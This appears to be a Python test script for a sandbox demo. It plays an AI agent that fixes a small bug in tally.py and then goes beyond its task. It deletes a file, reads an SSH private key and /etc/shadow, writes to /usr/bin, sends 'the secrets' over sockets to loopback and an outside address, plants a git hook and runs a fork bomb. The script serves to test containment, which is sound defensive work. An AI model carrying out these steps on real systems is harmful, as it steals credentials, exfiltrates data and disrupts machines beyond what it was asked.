# SPDX-License-Identifier: Apache-2.0
"""Plays an AI agent that was asked to fix a bug, and does more than it was asked.

It knows nothing of the sandbox it is in. For each thing it tries it prints one JSON line with what
it saw; demo judges from the outside and does not take its word where it can look itself.
usage: agent.py DECOY_HOME PORT
"""
import json
import os
import pathlib
import signal
import socket
import subprocess
import sys


def tell(what, seen):
    print(json.dumps({"try": what, "seen": seen}), flush=True)


def attempt(what, action):
    try:
        tell(what, f"worked: {action()}")
    except OSError as error:
        tell(what, f"{error.strerror}")


def fix_the_bug():
    path = pathlib.Path("tally.py")
    text = path.read_text()
    path.write_text(text.replace(
        "    return cents\n",
        '    count = int(words[2].lstrip("x")) if len(words) > 2 else 1\n    return cents * count\n'))


def add_a_changelog():
    pathlib.Path("CHANGES.md").write_text("# Changes\n\n- Counts such as `x3` are multiplied.\n")


def run_the_tests():
    done = subprocess.run([sys.executable, "-B", "-m", "unittest", "-q"], capture_output=True)
    return f"tests exit {done.returncode}"


def plant_a_hook():
    hook = pathlib.Path(".git/hooks/pre-commit")
    hook.parent.mkdir(parents=True, exist_ok=True)
    hook.write_text("#!/bin/sh\necho planted\n")
    hook.chmod(0o755)
    return "written"


def call_home(address):
    with socket.create_connection(address, timeout=2) as connection:
        connection.sendall(b"the secrets")
    return "sent"


def fork_bomb():
    """Forks until it is stopped; 5,000 is where this script would stop by itself."""
    children = []
    reason = "nothing stopped it"
    try:
        while len(children) < 5000:
            pid = os.fork()
            if pid == 0:
                signal.pause()
                os._exit(0)
            children.append(pid)
    except OSError as error:
        reason = error.strerror
    tell("fork bomb", {"processes": len(children), "stopped_by": reason})


def main():
    home, port = pathlib.Path(sys.argv[1]), int(sys.argv[2])
    fix_the_bug()
    add_a_changelog()
    os.unlink("notes-old.txt")
    attempt("run the tests", run_the_tests)
    attempt("read ~/.ssh", lambda: (home / ".ssh/id_ed25519").read_text())
    attempt("read /etc/shadow", lambda: pathlib.Path("/etc/shadow").read_text())
    attempt("write /usr/bin", lambda: pathlib.Path("/usr/bin/airlock-demo").write_text("x"))
    attempt("loopback of the host", lambda: call_home(("127.0.0.1", port)))
    attempt("the internet", lambda: call_home(("192.0.2.1", 443)))
    attempt("plant a git hook", plant_a_hook)
    fork_bomb()


main()
